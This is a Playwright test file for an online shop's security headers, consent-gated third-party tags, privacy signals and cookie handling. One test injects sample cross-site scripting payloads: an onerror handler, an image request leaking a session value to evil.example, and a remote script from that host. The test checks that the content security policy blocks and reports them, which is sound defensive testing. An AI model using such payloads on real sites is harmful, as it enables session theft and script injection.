import { test as base, expect, type Page } from 'playwright/test';
import { startClosedShop } from '../support/closed-shop';
import { failingScreens, screens } from '../support/routes';
import { addCookies, pathOf, shoppersOf, show, type Screen } from '../support/screens';
import { signIn } from '../support/sign-in';
import { hydrateAtOnce } from '../support/hydrate-at-once';
import { startShop, type Shop } from '../support/storefront';
import { hydrated } from './shop';

const test = base.extend<object, { shop: Shop; tagged: Shop }>({
  shop: [
    async ({ browserName: _browser }, provide) => {
      const sandboxVars = { NEWSLETTER_POPUP: 'usual' };
      const shop = await startShop({ https: true, sandboxVars });
      await provide(shop);
      await shop.stop();
    },
    { scope: 'worker' },
  ],
  /** This shop has third-party tags and the toolbar of a real content repository. */
  tagged: [
    async ({ browserName: _browser }, provide) => {
      const vars = {
        GTM_ID: 'GTM-TEST01',
        PINTEREST_TAG_ID: '2612345678901',
        META_PIXEL_ID: '123456789012345',
        KLAVIYO_ONSITE: 'true',
        CONSENT_ELSEWHERE: 'granted',
        PRISMIC_REPOSITORY: 'own-shop',
        PRISMIC_ENDPOINT: undefined,
      };
      const shop = await startShop({ https: true, vars });
      await provide(shop);
      await shop.stop();
    },
    { scope: 'worker' },
  ],
});

test.use({ trace: 'off', ignoreHTTPSErrors: true });

/** Includes report-only policies. */
async function watchViolations(page: Page): Promise<string[]> {
  const violations: string[] = [];
  await page.exposeFunction('violated', (what: string) => void violations.push(what));
  await page.addInitScript(() => {
    localStorage.setItem('popup-seen', '1');
    document.addEventListener('securitypolicyviolation', (event) => {
      const { effectiveDirective, blockedURI, sample, sourceFile, lineNumber } = event;
      // On a busy machine, a picture that takes too long is redirected to the sandbox, which has no https. Reports name
      // the address before the redirect.
      if (blockedURI.startsWith(`${location.origin}/media/`)) return;
      const place = `${location.pathname} ${sourceFile}:${lineNumber}`;
      void (window as unknown as { violated(what: string): void }).violated(
        `${effectiveDirective} ${blockedURI} ${sample} at ${place}`,
      );
    });
  });
  return violations;
}

test(
  'no screen violates its policy, nor the one that only reports',
  { tag: '@full' },
  async ({ browser, shop }) => {
    test.slow();
    const shopperOf = shoppersOf(shop);
    const pages = new Map<string, { page: Page; violations: string[] }>();
    const isFirst = ({ route, name }: Screen) =>
      screens.find((one) => one.route === route)?.name === name;
    for (const screen of [...screens.filter(isFirst), ...failingScreens]) {
      const shopper = await shopperOf(screen);
      const known = pages.get(shopper.address);
      const page = known?.page ?? (await browser.newPage({ baseURL: shop.addresses.stores.us }));
      const violations = known?.violations ?? (await watchViolations(page));
      pages.set(shopper.address, { page, violations });
      await addCookies(page.context(), shopper);
      if (screen.fails) await shop.fault({ service: screen.fails, mode: 'http-500' });
      await show(page, screen, await pathOf(screen, shop, shopper));
      if (screen.fails) await shop.clearFaults();
      expect.soft(violations, screen.name).toEqual([]);
      violations.length = 0;
    }
    for (const { page } of pages.values()) await page.context().close();
  },
);

test('the closed shop violates no policy', { tag: '@full' }, async ({ page }) => {
  const closed = await startClosedShop();
  const violations = await watchViolations(page);
  // The first page may be rendered before the theme, which closes the shop, has loaded.
  const open = async () => (await page.goto(closed.addresses.stores.us!))?.status();
  await expect.poll(open, { timeout: 60_000 }).toBe(503);
  await page.waitForLoadState('networkidle');
  expect(violations).toEqual([]);
  await closed.stop();
});

test('pages rendered by scripts violate no policy', { tag: '@full' }, async ({ page, shop }) => {
  const violations = await watchViolations(page);
  const store = shop.addresses.stores.us!;
  await hydrateAtOnce(page);
  await page.goto(store);
  await page.evaluate(() => Object.assign(window, { sameDocument: true }));
  const follow = async (link: string) => {
    const before = page.url();
    await page.locator(link).first().click();
    await expect(page).not.toHaveURL(before);
  };
  await follow('footer a[href="/pages/faqs"]');
  await follow('footer a[href^="/blogs/journal"]');
  await follow('main a[href^="/blogs/journal/"]');
  await page.goBack();
  await follow('header a[href="/"]:visible');
  await follow('main a[href^="/collections/"]:visible');
  await follow('main a[href^="/products/"]');
  await expect(page.locator('.prose-calm').first()).toBeVisible();
  await page.getByRole('button', { name: 'Add to bag', exact: true }).first().click();
  await expect(
    page.getByRole('dialog', { name: 'Your bag' }).getByRole('button', { name: 'Checkout' }),
  ).toBeVisible();
  expect(await page.evaluate(() => Object(window).sameDocument)).toBe(true);
  expect(violations).toEqual([]);
});

test(
  'styles of the visitor are accepted when React renders a page anew that an extension has changed',
  { tag: '@full' },
  async ({ page, shop }) => {
    const violations = await watchViolations(page);
    const shopper = shop.shopper();
    await shopper.post('/actions/wishlist', { intent: 'add', handle: 'brae-pendant-brass' });
    await addCookies(page.context(), shopper);
    await page.goto(`${shop.addresses.stores.us!}/collections/pendants`);
    await page.evaluate(() => {
      document.querySelector('main h1')!.remove();
      Object.assign(window, { style: document.getElementById('hearts') });
    });
    await hydrated(page);
    const isNew = () => page.evaluate(() => Object(window).style.isConnected === false);
    await expect.poll(isNew).toBe(true);
    const rules = () =>
      page.evaluate(
        () => (document.getElementById('hearts') as HTMLStyleElement).sheet?.cssRules.length,
      );
    await expect.poll(rules).toBeGreaterThan(0);
    expect(violations.filter((what) => what.startsWith('style-src'))).toEqual([]);
  },
);

test(
  'an injected script does not run, and the shop is told',
  { tag: '@full' },
  async ({ page, shop }) => {
    const store = shop.addresses.stores.us!;
    await page.goto(`${store}/cart`);
    await hydrated(page);
    const before = shop.logs().length;
    await page.evaluate(() => {
      document.body.insertAdjacentHTML(
        'beforeend',
        '<img src="/none.png" onerror="window.stolen = 1">' +
          '<img src="https://evil.example/x.png?session=secret">',
      );
      document.write(
        '<script>window.stolen = 2</script><script src="https://evil.example/x.js"></script>',
      );
    });
    await expect
      .poll(() => shop.logs().slice(before), { timeout: 30_000 })
      .toContain('"browser-reports"');
    await expect
      .poll(() => shop.logs().slice(before), { timeout: 30_000 })
      .toContain('"blocked":"https://evil.example"');
    expect(await page.evaluate(() => Object(window).stolen)).toBeUndefined();
    expect(shop.logs().slice(before)).not.toContain('session=secret');
  },
);

async function standIn(page: Page, shop: Shop): Promise<string[]> {
  const asked: string[] = [];
  const own = [...Object.values(shop.addresses.stores), shop.addresses.sandbox];
  await page.route(
    (url) => !own.includes(url.origin),
    (route) => {
      const url = new URL(route.request().url());
      asked.push(url.host);
      const body = `(window.ran ??= []).push('${url.host}');
        if (!'${url.host}'.startsWith('second.')) {
          const more = document.createElement('script');
          more.src = 'https://second.${url.host}/more.js';
          document.head.append(more);
        }`;
      return route.fulfill({ contentType: 'text/javascript', body });
    },
  );
  return asked;
}

const hosts = [
  'connect.facebook.net',
  's.pinimg.com',
  'static.klaviyo.com',
  'www.googletagmanager.com',
];

test(
  'tags and what they load run after consent, though no host is trusted',
  { tag: '@full' },
  async ({ page, tagged }) => {
    const store = tagged.addresses.stores.us!;
    const violations = await watchViolations(page);
    await standIn(page, tagged);
    await page
      .context()
      .addCookies([
        { name: '__Host-consent', value: 'analytics.marketing', url: store, secure: true },
      ]);
    const answer = await page.goto(store);
    const ran = () => page.evaluate(() => (Object(window).ran as string[] | undefined)?.sort());
    await expect.poll(ran).toEqual([...hosts, ...hosts.map((host) => `second.${host}`)].sort());
    const policy = (await answer!.allHeaders())['content-security-policy'] ?? '';
    const [scripts = ''] = policy.split('; ').filter((one) => one.startsWith('script-src '));
    expect(scripts).not.toContain('https:');
    expect(violations).toEqual([]);
  },
);

test(
  'the content service’s toolbar runs in a preview',
  { tag: '@full' },
  async ({ page, tagged }) => {
    const store = tagged.addresses.stores.us!;
    const violations = await watchViolations(page);
    await standIn(page, tagged);
    const value = encodeURIComponent('https://own-shop.prismic.io/previews/a?b=c');
    await page.context().addCookies([{ name: 'io.prismic.preview', value, url: store }]);
    await page.goto(`${store}/not-found`);
    await expect
      .poll(() => page.evaluate(() => Object(window).ran))
      .toContain('second.static.cdn.prismic.io');
    expect(violations).toEqual([]);
  },
);

test(
  'a browser that asks for privacy gets no third party until its owner says so',
  { tag: '@full' },
  async ({ browser, tagged }) => {
    const store = tagged.addresses.stores.us!;
    const country = { 'cf-ipcountry': 'US' };
    const signals: Record<string, string>[] = [{ ...country, 'sec-gpc': '1' }, country];
    for (const extraHTTPHeaders of signals) {
      const context = await browser.newContext({ extraHTTPHeaders, ignoreHTTPSErrors: true });
      const page = await context.newPage();
      const asked = await standIn(page, tagged);
      await page.addInitScript(() => {
        localStorage.setItem('popup-seen', '1');
        Object.defineProperty(navigator, 'globalPrivacyControl', { value: true });
      });
      await page.goto(store);
      const notice = page.getByRole('region', { name: 'Your privacy' });
      await expect(notice).toContainText('Your browser asks us not to share your data');
      await page.waitForLoadState('networkidle');
      expect(asked).toEqual([]);
      await page.goto(`${store}/consent`);
      await expect(page.getByRole('main')).toContainText('Your browser asks us not to share');
      await notice.getByRole('button', { name: 'Allow anyway' }).click();
      await expect
        .poll(() => new Set(asked))
        .toEqual(new Set([...hosts, ...hosts.map((host) => `second.${host}`)]));
      await page.reload();
      await page.waitForLoadState('networkidle');
      await expect(notice).toHaveCount(0);
      expect(await page.evaluate(() => (Object(window).ran as string[]).length)).toBe(8);
      await context.close();
    }
  },
);

test('scripts find the cookies of an https site', { tag: '@full' }, async ({ page, shop }) => {
  const store = shop.addresses.stores.us!;
  await page.goto(`${store}/products/brae-pendant-brass`);
  await hydrated(page);
  const heart = page.getByRole('main').locator('[data-heart=brae-pendant-brass]').first();
  await heart.getByRole('button', { name: /add/i }).click();
  await expect(heart.getByRole('button', { name: /in your|remove/i })).toBeVisible();
  await page.evaluate(() => {
    document.getElementById('hearts')!.textContent = '';
    window.dispatchEvent(new Event('focus'));
  });
  await expect(heart.getByRole('button', { name: /in your|remove/i })).toBeVisible();
  const invitation = page.getByRole('complementary', { name: 'Newsletter invitation' });
  await invitation.getByRole('button', { name: 'Close' }).click();
  const cookies = await page.context().cookies(store);
  expect(cookies.map(({ name }) => name)).toContain('__Host-popup-seen');
  expect(cookies.filter(({ name, secure }) => !name.startsWith('__Host-') || !secure)).toEqual([]);
});

test(
  'signing out empties the browser’s storage and keeps the bag',
  { tag: '@full' },
  async ({ page, shop }) => {
    const store = shop.addresses.stores.us!;
    await page.addInitScript(
      () => document.cookie.includes('x') || localStorage.setItem('popup-seen', '1'),
    );
    await page.goto(`${store}/products/brae-pendant-brass`);
    await hydrated(page);
    await page.getByRole('button', { name: 'Add to bag', exact: true }).first().click();
    await expect(
      page.getByRole('dialog', { name: 'Your bag' }).getByRole('button', { name: 'Checkout' }),
    ).toBeVisible();
    await signIn(page, store);
    await page.evaluate(() => localStorage.setItem('tag-id', 'who was here'));
    await page.getByRole('button', { name: 'Sign out' }).click();
    await expect(page.getByText('You’re signed out.')).toBeVisible();
    expect(await page.evaluate(() => localStorage.getItem('tag-id'))).toBeNull();
    await page.goto(`${store}/cart`);
    await expect(page.getByRole('main')).toContainText('Brae Pendant');
  },
);
